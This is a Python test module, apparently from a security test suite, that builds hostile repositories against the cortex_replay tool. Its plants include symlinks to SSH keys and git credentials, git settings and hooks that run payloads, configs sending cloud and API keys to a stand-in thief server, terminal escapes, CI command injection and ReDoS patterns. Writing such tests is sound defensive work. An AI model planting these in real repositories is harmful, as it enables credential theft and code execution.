"""The columns of the matrix: what a hostile repository may hold.

``make`` works on the attacker's tree, which is then committed and cloned; ``late`` on the clone, for what
git does not carry but an archive or a shared folder does.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from cortex_replay import blake3_hex
from cortex_replay.store.fixture import Answer
from cortex_replay.store.fixture_json import render_fixture
from cortex_replay.store.index.grid import render_index
from cortex_replay.store.index.index import FixtureRow, Index, parse_index
from tests.builder import ask, fixture_of
from tests.security.matrix.sandbox import HOSTILE_FIXTURES, Sandbox, Workshop, run_git

__all__ = ["ADOPTED", "PLANTS", "Plant"]

Make = Callable[[Path, Workshop], None]
Late = Callable[[Sandbox], None]

ADOPTED: Final = "planted-model"
"""The model of recordings that were planted as staged; none may come into an index."""
ESCAPES: Final = "\x1b]0;owned\x07\x1b[2J\r\x9b31m\x7f"
BIDI: Final = "\u202e"
COMMAND: Final = "\n::set-output name=a::b\n"


@dataclass(frozen=True)
class Plant:
    """One thing that was planted."""

    name: str
    make: tuple[Make, ...] = ()
    late: tuple[Late, ...] = ()
    bites: tuple[str, ...] = ()
    """Rows for which the attack was made; they are always in the sample."""
    spares_git: bool = False
    """Whether it is in git's own files, which git reads and obeys when the user runs it."""
    needs_root: bool = False
    records: bool = False
    """Whether it makes ``record`` the mode, which a project may outside of CI."""


def _link(path: str, target: str) -> Make:
    def make(tree: Path, _: Workshop) -> None:
        full = tree / path
        full.parent.mkdir(parents=True, exist_ok=True)
        if full.is_dir() and not full.is_symlink():
            full.rename(tree / "was")
        elif os.path.lexists(full):
            full.unlink()
        full.symlink_to(target)

    return make


def _file(path: str, content: str | bytes) -> Make:
    def make(tree: Path, _: Workshop) -> None:
        full = tree / path
        full.parent.mkdir(parents=True, exist_ok=True)
        if full.is_symlink():
            full.unlink()
        full.write_bytes(content.encode("utf-8", "surrogateescape") if isinstance(content, str) else content)

    return make


def _late(make: Make) -> Late:
    return lambda sandbox: make(sandbox.clone, sandbox.workshop)


def _fifo(path: str) -> Late:
    def late(sandbox: Sandbox) -> None:
        full = sandbox.clone / path
        full.parent.mkdir(parents=True, exist_ok=True)
        if os.path.lexists(full):
            full.unlink()
        os.mkfifo(full)

    return late


def _first_fixture_fifo(sandbox: Sandbox) -> None:
    _fifo(sandbox.workshop.fixture)(sandbox)


def _staged() -> bytes:
    return render_fixture(fixture_of(ask("What was planted?", model=ADOPTED), Answer("Planted.")))


def _staged_beside(sandbox: Sandbox) -> None:
    (sandbox.beside / "keep" / "1.add").write_bytes(_staged())


def _journal(**fields: object) -> Make:
    """An open journal; ``finished`` if its index is to count as in place."""
    is_finished = bool(fields.pop("finished", False))

    def make(tree: Path, _: Workshop) -> None:
        present = blake3_hex((tree / "INDEX.toml").read_bytes())
        journal = {
            "counter": 7,
            "is_open": True,
            "old_index": "0" * 64,
            "new_index": present if is_finished else "1" * 64,
            "added": [],
            "removed": [],
            "overwriting": [],
            **fields,
        }
        _file(".cortex-replay/journal", json.dumps(journal))(tree, _)

    return make


def _owned_by_another(sandbox: Sandbox) -> None:
    _late(_file(".cortex-replay/staging/7-0/1.add", _staged()))(sandbox)
    for folder, _, files in os.walk(sandbox.clone / ".cortex-replay"):
        for name in (folder, *(os.path.join(folder, file) for file in files)):  # noqa: PTH118
            os.chown(name, 12345, 12345)


def _config(text: str, name: str = "cortex-replay.toml") -> Make:
    """A configuration, in which ``{thief}`` is the thief's server."""

    def make(tree: Path, workshop: Workshop) -> None:
        _file(name, text.replace("{thief}", workshop.thief_url))(tree, workshop)

    return make


def _fixture(model: str, question: str = "What?", answer: str = "This.") -> Make:
    """A fixture that is sound in every way but for its words and its path."""

    def make(tree: Path, workshop: Workshop) -> None:
        fixture = fixture_of(ask(question, model=model), Answer(answer), meta={"adapter": answer})
        data = render_fixture(fixture)
        path = next(one for one in HOSTILE_FIXTURES if not os.path.lexists(tree / one))
        index = parse_index((tree / "INDEX.toml").read_text())
        row = FixtureRow(path, blake3_hex(data), *fixture.key)
        _file(path, data)(tree, workshop)
        text = render_index(Index([*index.fixtures, row], index.exchanges, index.header))
        (tree / "INDEX.toml").write_text(text)

    return make


def _store_below(tree: Path, workshop: Workshop) -> None:
    """The store moved to ``llm``, as a configuration says."""
    (tree / "llm").mkdir(exist_ok=True)
    for name in ("INDEX.toml", "fixtures"):
        (tree / name).rename(tree / "llm" / name)
    _config('store = "llm"\n')(tree, workshop)


def _bare(folder: str, work_tree: str = ".") -> Make:
    """A folder that git takes for a bare repository whose settings run programs."""

    def make(tree: Path, workshop: Workshop) -> None:
        for name in ("objects", "refs/heads"):
            _file(f"{folder}/{name}/keep", "")(tree, workshop)
        _file(f"{folder}/HEAD", "ref: refs/heads/main\n")(tree, workshop)
        (tree / folder / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
        run_git(tree, "--git-dir", folder, "--work-tree", folder, "add", "--force", "HEAD")
        settings = _git_settings(workshop, f"\tbare = false\n\tworktree = {work_tree}\n")
        (tree / folder / "config").write_text(settings)

    return make


def _git_settings(workshop: Workshop, core: str = "") -> str:
    run = workshop.payload
    return (
        "[core]\n\trepositoryformatversion = 0\n"
        f"{core}\tfsmonitor = {run('fsmonitor')}\n\tsshCommand = {run('ssh')}\n\tpager = {run('pager')}\n"
        f"\teditor = {run('editor')}\n\taskPass = {run('askpass')}\n"
        f"[diff]\n\texternal = {run('diff-external')}\n"
        f'[diff "evil"]\n\ttextconv = {run("textconv")}\n\tcommand = {run("diff-command")}\n'
        f'[filter "evil"]\n\tclean = {run("clean")}\n\tsmudge = {run("smudge")}\n'
        f"[gpg]\n\tprogram = {run('gpg')}\n[credential]\n\thelper = {run('credential')}\n"
    )


def _git_config(sandbox: Sandbox) -> None:
    """The clone's own settings, as in an archive that holds a whole ``.git``."""
    with (sandbox.clone / ".git" / "config").open("a") as config:
        config.write(_git_settings(sandbox.workshop))


def _git_hooks(sandbox: Sandbox) -> None:
    folder = sandbox.clone / ".git" / "hooks"
    folder.mkdir(exist_ok=True)
    for name in (
        "post-index-change",
        "reference-transaction",
        "pre-commit",
        "post-checkout",
        "fsmonitor-watchman",
    ):
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(sandbox.workshop.payload(f"hook-{name}"))


def _git_file(sandbox: Sandbox) -> None:
    """The store has a ``.git`` of its own, a file that leads to a repository of the attacker's."""
    (sandbox.clone / "llm" / ".git").write_text("gitdir: ../evil\n")


def _git_elsewhere(sandbox: Sandbox) -> None:
    """The ``.git`` of the clone is a file that leads to the bare repository in it."""
    (sandbox.clone / ".git").rename(sandbox.clone / "real")
    (sandbox.clone / "real" / "config").write_text(_git_settings(sandbox.workshop))
    (sandbox.clone / ".git").write_text("gitdir: real\n")


def _modules(tree: Path, workshop: Workshop) -> None:
    """Modules and programs with the names of those that a command needs."""
    for name in ("click", "json", "orjson", "httpx", "re", "encodings", "sitecustomize", "blake3", "_cortex"):
        code = f"open({str(workshop.marks / f'module-{name}')!r}, 'w').close()\n"
        _file(f"{name}.py", code)(tree, workshop)
        _file(f"fixtures/{name}.py", code)(tree, workshop)
    for name in ("__init__", "__main__"):
        code = f"open({str(workshop.marks / 'module-cortex_replay')!r}, 'w').close()\n"
        _file(f"cortex_replay/{name}.py", code)(tree, workshop)
    for name in ("git", "python", "python3", "sh", "cortex-replay"):
        (tree / name).symlink_to(workshop.payload(f"program-{name}"))


_HOSTILE_NAMES: Final = (
    b"esc\x1b]0;owned\x07\x1b[2J.json",
    b"line\n::set-output name=a::b\n.json",
    b"::error::x.json",
    b"-rf.json",
    b"--store=..json",
    b"bytes\xff\xfe\x80.json",
    b"c1\xc2\x9b31m.json",
    b"bidi\xe2\x80\xaenosj.json",
    b"n" * 245 + b".json",
)


def _names(folder: str, content: bytes = b"{}\n") -> Make:
    """Files with names that a terminal, a shell or a CI runner might act upon."""

    def make(tree: Path, _: Workshop) -> None:
        (tree / folder).mkdir(parents=True, exist_ok=True)
        for name in _HOSTILE_NAMES:
            Path(os.fsdecode(os.path.join(os.fsencode(tree / folder), name))).write_bytes(content)  # noqa: PTH118

    return make


def _model_folders(tree: Path, _: Workshop) -> None:
    for name in _HOSTILE_NAMES:
        folder = Path(os.fsdecode(os.path.join(os.fsencode(tree / "fixtures"), name)))  # noqa: PTH118
        folder.mkdir()
        (folder / "f.json").write_text("{}\n")


def _index_row(path: str, model: str) -> Make:
    """A row of an index as only an attacker writes it."""

    def make(tree: Path, _: Workshop) -> None:
        text = (tree / "INDEX.toml").read_text()
        row = (
            f'\n[[fixture]]\npath = {json.dumps(path)}\nblake3 = "{"0" * 64}"\nmodel = {json.dumps(model)}\n'
        )
        (tree / "INDEX.toml").write_text(f'{text}{row}prompt_hash = "{"1" * 64}"\n')

    return make


def _tests(tree: Path, _: Workshop) -> None:
    """A test whose name and parameters are hostile."""
    text = (tree / "tests" / "test_llm.py").read_text()
    text += (
        f"\n@pytest.mark.llm_replay\n@pytest.mark.parametrize('x', [{ESCAPES!r}, {COMMAND!r}], ids=str)\n"
        f"def test_named(x):\n    ask(x)\n"
    )
    (tree / "tests" / "test_llm.py").write_text(text)


_KEY_ENV = 'base_url = "{thief}/v1"\nkey_env = "AWS_SECRET_ACCESS_KEY"\n'
_KEY_FILE = 'base_url = "{thief}/v1"\nkey_file = "~/.git-credentials"\n'
_EVIL = 'provider = "evil"\n[providers.evil]\nkind = "openai-compat"\n'
_RECORDS = ("record configured", "record configured --json")
_BEHIND = ("record configured -- CMD", "serve --mode once")
_WRITES = ("record scripted", "index", "prune --model")
_READS = ("list", "show", "verify")

STATE: Final = (
    Plant(
        "state folder is a link", (_link(".cortex-replay", "../beside"),), bites=("record scripted", "init")
    ),
    Plant(
        "state folder is a dangling link", (_link(".cortex-replay", "../beside/new"),), bites=("record echo",)
    ),
    Plant("state folder is a loop", (_link(".cortex-replay", ".cortex-replay"),), bites=("index",)),
    Plant("state folder is a file", (_file(".cortex-replay", "x"),), bites=("record scripted",)),
    Plant("state folder is a link into git", (_link(".cortex-replay", ".git"),), bites=("record scripted",)),
    Plant(
        "staging is a link to the folder above",
        (_link(".cortex-replay/staging", "../.."), _file("1.add", "x")),
        bites=("index --adopt-staged", "record scripted", "record -- CMD", "import"),
    ),
    Plant(
        "staging is a link, with a staged fixture",
        (_link(".cortex-replay/staging", "../../beside"), _file("1.add", _staged())),
        (_staged_beside,),
        bites=("index --discard-staged", "index --adopt-staged"),
    ),
    Plant(
        "staged session is a link",
        (_link(".cortex-replay/staging/7-0", "../../../beside/keep"),),
        bites=("record scripted", "index --discard-staged"),
    ),
    Plant(
        "staged fixture is a link",
        (_link(".cortex-replay/staging/7-0/1.add", "../../../../../home/.git-credentials"),),
        bites=("index --adopt-staged",),
    ),
    Plant(
        "staging is tracked by git",
        (_file(".cortex-replay/staging/7-0/1.add", _staged()), _file(".cortex-replay/staging/7-0/owner", "")),
        bites=("pytest in CI", "pytest", "record scripted", "index --adopt-staged"),
    ),
    Plant(
        "staging came in an archive",
        late=(_late(_file(".cortex-replay/staging/7-0/1.add", _staged())),),
        bites=("pytest in CI", "record -- CMD", "import"),
    ),
    Plant("state of another user", late=(_owned_by_another,), bites=("record scripted",), needs_root=True),
    Plant("journal is a link", (_link(".cortex-replay/journal", "../../beside/notes.txt"),), bites=_WRITES),
    Plant(
        "temporary files are links",
        (
            _link(".cortex-replay/journal.tmp", "../../beside/notes.txt"),
            _link(".cortex-replay/index.tmp", "../../beside/notes.json"),
            _link(".cortex-replay/file.tmp", "../../beside/new"),
        ),
        bites=("record scripted",),
    ),
    Plant("lock is a link", (_link(".cortex-replay/lock", "../../beside/new"),), bites=("record scripted",)),
    Plant(
        "lock is a link to a file",
        (_link(".cortex-replay/lock", "../../beside/notes.txt"),),
        bites=("index",),
    ),
    Plant("ignore file of the state is a link", (_link(".cortex-replay/.gitignore", "../../beside/new"),)),
    Plant(
        "run folder is a link", (_link(".cortex-replay/runs", "../../beside"),), bites=("pytest once -n 1",)
    ),
    Plant(
        "journal removes through a link",
        (_link("fixtures/out", "../../beside"), _journal(finished=True, removed=["fixtures/out/notes.json"])),
        bites=("index", "record scripted", "prune --model"),
    ),
    Plant(
        "journal removes other files through a link",
        (
            _link("fixtures/out", "../../beside"),
            _journal(finished=True, removed=["fixtures/out/keep/inner.txt"]),
        ),
        bites=("record echo", "rekey"),
    ),
    Plant(
        "journal takes files through a link",
        (
            _link("fixtures/out", "../../beside"),
            _journal(added=["fixtures/out/notes.json", "fixtures/out/notes.txt"]),
        ),
        bites=("index", "record scripted", "prune --model"),
    ),
    Plant(
        "journal removes the project's files",
        (
            _journal(
                finished=True,
                removed=["README.md", ".git/config", "tests/test_llm.py", "../beside/notes.json"],
            ),
        ),
        bites=("index", "record scripted"),
    ),
    Plant(
        "journal takes the project's files",
        (_journal(added=["README.md", ".git/HEAD", "unused.json"]),),
        bites=("record scripted", "index --adopt-staged"),
    ),
    Plant(
        "journal is huge", (_file(".cortex-replay/journal", b"[" * 2_000_000),), bites=("record scripted",)
    ),
    *(
        Plant(f"pipe for the state's {name}", late=(_fifo(f".cortex-replay/{name}"),), bites=(row,))
        for name, row in (
            ("lock", "record scripted"),
            ("journal", "list"),
            (".gitignore", "index"),
            ("staging", "index --adopt-staged"),
            ("staging/7-0/owner", "verify"),
            ("staging/7-0/1.add", "index --adopt-staged"),
        )
    ),
)
LINKS: Final = (
    Plant("fixtures is a link", (_link("fixtures", "../beside"),), bites=("record scripted", "index")),
    Plant(
        "fixtures is a link to a store",
        (_link("fixtures", "../beside/llm/fixtures"),),
        bites=("prune --model",),
    ),
    Plant("fixtures is a loop", (_link("fixtures", "fixtures"),), bites=("index", "list")),
    Plant(
        "a model's folder is a link", (_link("fixtures/demo", "../../beside"),), bites=("record scripted",)
    ),
    Plant(
        "a model's folder dangles", (_link("fixtures/demo", "../../beside/new"),), bites=("record scripted",)
    ),
    Plant(
        "exchanges is a link",
        (_link("fixtures/exchanges", "../../beside"),),
        bites=("import", "record -- CMD"),
    ),
    Plant(
        "index is a link",
        (_link("INDEX.toml", "../beside/llm/INDEX.toml"),),
        bites=("record scripted", "index"),
    ),
    Plant(
        "index dangles",
        (_link("INDEX.toml", "../beside/new"),),
        bites=("init again", "record scripted", "index"),
    ),
    Plant("index is a loop", (_link("INDEX.toml", "INDEX.toml"),), bites=("init again", "verify")),
    Plant(
        "index is a secret", (_link("INDEX.toml", "../../home/.git-credentials"),), bites=("list", "index")
    ),
    Plant("git attributes are a link", (_link(".gitattributes", "../beside/notes.txt"),), bites=("init",)),
    Plant(
        "git attributes dangle",
        (_link(".gitattributes", "../../home/.config/git/attributes"),),
        bites=("init",),
    ),
    Plant("git ignore is a link", (_link(".gitignore", "../../home/.bashrc"),), bites=("init",)),
    Plant("hook settings dangle", (_link(".pre-commit-config.yaml", "../beside/new.yaml"),), bites=("init",)),
    Plant("example dangles", (_link("test_llm_example.py", "../beside/new.py"),), bites=("init",)),
    Plant("sub folder is a link", (_link("sub", "../beside"),), bites=("init --store sub/new",)),
    Plant(
        "report is a link",
        (_link("report.json", "../beside/notes.txt"),),
        bites=("replay -- CMD", "record -- CMD", "pytest --llm-report"),
    ),
    Plant(
        "report dangles",
        (_link("report.json", "../beside/new"),),
        bites=("pytest --llm-report", "replay -- CMD"),
    ),
    Plant("URL file is a link", (_link("url.txt", "../beside/notes.txt"),), bites=("serve",)),
    Plant("export is a link", (_link("out", "../beside/empty"),), bites=("export",)),
    Plant("export dangles", (_link("out", "../beside/new"),), bites=("export",)),
    Plant(
        "store is a link",
        (_store_below, _link("llm", "../beside/llm")),
        bites=("record scripted", "prune --model"),
    ),
    Plant("store dangles", (_store_below, _link("llm", "../beside/new")), bites=("init", "init again")),
    Plant(
        "inputs are secrets",
        (
            _link("requests.jsonl", "../../home/.git-credentials"),
            _link("script.toml", "../../home/.ssh/id_ed25519"),
            _link("unused.json", "../../home/.bashrc"),
            _link("cassettes/chat.yaml", "../../../home/.git-credentials"),
        ),
        bites=("batch", "record --script", "prune --unused-from", "import"),
    ),
    Plant(
        "configuration is a secret",
        (_link("cortex-replay.toml", "../../home/.git-credentials"),),
        bites=("config",),
    ),
    Plant("a fixture is a pipe", late=(_first_fixture_fifo,), bites=_READS),
    *(
        Plant(f"pipe for {name}", late=(_fifo(name),), bites=(row,), spares_git=name.startswith(".git"))
        for name, row in (
            ("INDEX.toml", "list"),
            ("cortex-replay.toml", "config"),
            ("pyproject.toml", "config"),
            (".gitattributes", "init"),
            (".gitignore", "init"),
            (".pre-commit-config.yaml", "init"),
            ("report.json", "replay -- CMD"),
        )
    ),
)
CONFIG: Final = (
    Plant("provider takes a variable", (_config(_EVIL + _KEY_ENV),), bites=_RECORDS),
    Plant("provider takes a file", (_config(_EVIL + _KEY_FILE),), bites=_RECORDS),
    Plant(
        "provider in pyproject takes a variable",
        (
            _config(
                '[tool.cortex-replay]\nprovider = "evil"\n[tool.cortex-replay.providers.evil]\n'
                'kind = "claude"\nbase_url = "{thief}"\nkey_env = ["GITHUB_TOKEN", "ANTHROPIC_API_KEY"]\n',
                "pyproject.toml",
            ),
        ),
        bites=_RECORDS,
    ),
    Plant("openai takes a variable", (_config(f"[providers.openai]\n{_KEY_ENV}"),), bites=_BEHIND),
    Plant("openai takes a file", (_config(f"[providers.openai]\n{_KEY_FILE}"),), bites=_BEHIND),
    Plant(
        "store below takes a file",
        (_config(f'store = "llm"\n[providers.openai]\n{_KEY_FILE}'),),
        bites=("init",),
    ),
    Plant(
        "openai takes its own key", (_config('[providers.openai]\nbase_url = "{thief}/v1"\n'),), bites=_BEHIND
    ),
    Plant(
        "mode is record",
        (_config(f'mode = "record"\n{_EVIL}{_KEY_ENV}'),),
        bites=("serve", "pytest in CI", "pytest"),
        records=True,
    ),
    Plant(
        "caller and script lie outside",
        (
            _config(
                'provider = "scripted"\n[providers.scripted]\nscript = "../../home/.git-credentials"\n'
                '[callers.ci]\ntoken_file = "~/.ssh/id_ed25519"\ngrants = ["llm_complete"]\n'
            ),
        ),
        bites=("record configured", "serve --stdio", "serve"),
    ),
    Plant("store has line breaks", (_config('store = "llm\\n  - repo: evil"\n'),), bites=("init", "config")),
    Plant(
        "store has escapes",
        (_config('store = "\\u001b]0;owned\\u0007llm"\n'),),
        bites=("init", "verify", "serve"),
    ),
    Plant("store lies outside", (_config('store = "../beside/new"\n'),), bites=("init", "init again")),
    Plant(
        "store is another's",
        (_config('store = "../beside/llm"\n'),),
        bites=("record scripted", "prune --model"),
    ),
    Plant("store is in the home", (_config('store = "~/new"\n'),), bites=("init", "init again")),
    Plant("store is git's folder", (_config('store = ".git/llm"\n'),), bites=("init",)),
    Plant("header of 999 parts", (_config(f"[{'.'.join(['a'] * 999)}]\nx = 1\n"),), bites=("config", "list")),
    Plant(
        "nested keys",
        (_config("".join(f"k{i}{'.a' * 960} = 1\n" for i in range(240))),),
        bites=("config", "verify"),
    ),
    Plant("a key of many parts", (_config(f"a{'.a' * 100_000} = 1\n"),), bites=("config", "list")),
    Plant("nested tables", (_config("a = " + "{x=" * 20_000 + "1" + "}" * 20_000),), bites=("config",)),
    Plant("nested lists", (_config("a = " + "[" * 100_000),), bites=("config",)),
    Plant(
        "normaliser that backtracks",
        (_config('provider = "echo"\n[normalisers]\nx = "(a|aa)+$"\n'),),
        bites=("rekey", "record configured --json", "verify"),
    ),
    Plant(
        "redaction that backtracks",
        (_config('provider = "echo"\n[redaction.extra_patterns]\nx = "(a+)+$"\n'),),
        bites=("record configured --json", "scan"),
    ),
    Plant("redaction reads all", (_config('[redaction]\nknown_env = ["PATH", "HOME"]\n'),), bites=("scan",)),
    Plant(
        "settings with escapes",
        (_config('"\\u001b[2J" = 1\nprovider = "\\u001b]0;owned\\u0007"\n"a\\n::error::x" = 1\n'),),
        bites=("config", "record configured"),
    ),
    Plant(
        "provider with escapes",
        (_config('provider = "\\u001b]0;owned\\u0007"\n'),),
        bites=("config", "config --json"),
    ),
    Plant(
        "URL with escapes",
        (_config('[providers.openai]\nbase_url = "http://a\\u001b[2J.b/"\n'),),
        bites=("config",),
    ),
    Plant("huge configuration", (_config("# " + "x" * 5_000_000),), bites=("config",)),
)
GIT: Final = (
    Plant(
        "store is a bare repository",
        (_store_below, _bare("llm")),
        bites=("verify --staged", "init --driver-only"),
    ),
    Plant(
        "fixtures is a bare repository",
        (_bare("fixtures"),),
        bites=("verify --staged", "verify --strict --base"),
    ),
    Plant(
        "store has a git file",
        (_store_below, _bare("evil", "../llm")),
        (_git_file,),
        bites=("verify --staged", "git commit with the hook"),
    ),
    Plant("git is elsewhere", late=(_git_elsewhere,), bites=("verify --staged",), spares_git=True),
    Plant(
        "settings of git run programs",
        (_file(".gitattributes", "* filter=evil diff=evil\n"),),
        (_git_config,),
        bites=("verify --staged", "verify --strict --base", "init --driver-only", "record scripted"),
        spares_git=True,
    ),
    Plant("hooks", late=(_git_hooks,), bites=("verify --staged", "init"), spares_git=True),
    Plant("modules", (_modules,), bites=("git merge", "git commit with the hook", "verify", "replay -- CMD")),
)
NAMES: Final = (
    Plant(
        "names of files",
        (_names("fixtures/m"),),
        bites=("verify", "index", "index --check", "verify --staged"),
    ),
    Plant("names of folders", (_model_folders,), bites=("verify", "index --dry-run --json")),
    Plant("names of cassettes", (_names("cassettes", b"interactions: [\x1b"),), bites=("import",)),
    Plant(
        "names in the state", (_names(".cortex-replay/staging/7-0", _staged()),), bites=("verify", "index")
    ),
    Plant(
        "model with escapes", (_fixture(f"{ESCAPES}m"),), bites=("list", "show", "explain", "prune --dry-run")
    ),
    Plant(
        "model is a command",
        (_fixture(f"m{COMMAND}"),),
        bites=("list", "completing a fixture", "pytest in CI"),
    ),
    Plant("model reorders", (_fixture(f"m{BIDI}x"),), bites=("list", "explain")),
    Plant("model is an option", (_fixture("--store=.."),), bites=("list", "refresh")),
    Plant("model is a path", (_fixture("../../../beside/x"),), bites=("refresh", "export", "rekey")),
    Plant("model is long", (_fixture("m" * 100_000),), bites=("export", "refresh", "list")),
    Plant(
        "texts with escapes",
        (_fixture("m", f"{ESCAPES}{COMMAND}{BIDI}?", f"{ESCAPES}{COMMAND}{BIDI}!"),),
        bites=("show", "show --json", "explain", "refresh --check", "scan"),
    ),
    Plant("path with escapes", (_index_row("fixtures/\x1b[2J.json", "m"),), bites=("verify", "list", "scan")),
    Plant(
        "path is a command", (_index_row("fixtures/\n::error::x.json", "m\n::error::x"),), bites=("verify",)
    ),
    Plant(
        "path leads out",
        (_index_row("../beside/notes.json", "m"),),
        bites=("verify", "index", "prune --model"),
    ),
    Plant("path is absolute", (_index_row("/etc/passwd", "m"),), bites=("verify", "index --accept-changed")),
    Plant(
        "path through git",
        (_index_row(".git/config", "m"),),
        bites=("index --accept-changed", "prune --model"),
    ),
    Plant(
        "inputs with escapes",
        (
            _file(
                "requests.jsonl",
                f'{{"model": "m", "provider": {json.dumps(ESCAPES)}, "messages": "x"}}\n\x1b[2J\n',
            ),
            _file("script.toml", '"\\u001b[2J" = 1\n'),
            _file(
                "unused.json",
                json.dumps({"used": [], "unused": [{"model": ESCAPES, "prompt_hash": COMMAND}]}),
            ),
            _file("cassettes/chat.yaml", '"\\e]0;owned\\a": {"\\e[2J": 1}\ninteractions: 3\n'),
        ),
        bites=("batch", "record --script", "prune --unused-from", "import"),
    ),
    Plant("names of tests", (_tests,), bites=("pytest", "pytest in CI", "pytest once")),
    Plant(
        "index with bytes",
        (_file("INDEX.toml", b"version = 1\n\xff\x1b[2J\n"),),
        bites=("verify", "list", "index"),
    ),
)


def _all(name: str, *parts: str, bites: tuple[str, ...]) -> Plant:
    """Several plants at once, made in this order; the store is to stay sound, or few commands get far."""
    named = {plant.name: plant for plant in (*STATE, *LINKS, *CONFIG, *GIT, *NAMES)}
    found = [named[part] for part in parts]
    return Plant(
        name,
        tuple(make for plant in found for make in plant.make),
        tuple(late for plant in found for late in plant.late),
        bites=bites,
        spares_git=any(plant.spares_git for plant in found),
    )


TOGETHER: Final = (
    _all(
        "together: state, settings, modules, names",
        "model with escapes",
        "texts with escapes",
        "provider takes a variable",
        "modules",
        "names of cassettes",
        "report is a link",
        "staging is a link to the folder above",
        "journal removes the project's files",
        bites=(
            "record scripted",
            "record configured",
            "verify --staged",
            "index --adopt-staged",
            "git merge",
        ),
    ),
    _all(
        "together: links, git, staging",
        "model is a command",
        "staging is tracked by git",
        "git ignore is a link",
        "hook settings dangle",
        "settings of git run programs",
        "hooks",
        "names of tests",
        "report dangles",
        bites=("init", "pytest in CI", "verify --staged", "replay -- CMD"),
    ),
    _all(
        "together: a bare store that takes keys",
        "store is a bare repository",
        "store below takes a file",
        "URL file is a link",
        "names of tests",
        bites=("serve", "record configured -- CMD", "verify --staged"),
    ),
)
NOTHING: Final = Plant("nothing")
"""An honest project: whatever the judges say of it is wrong, or the command is."""
PLANTS: Final = (NOTHING, *STATE, *LINKS, *CONFIG, *GIT, *NAMES, *TOGETHER)
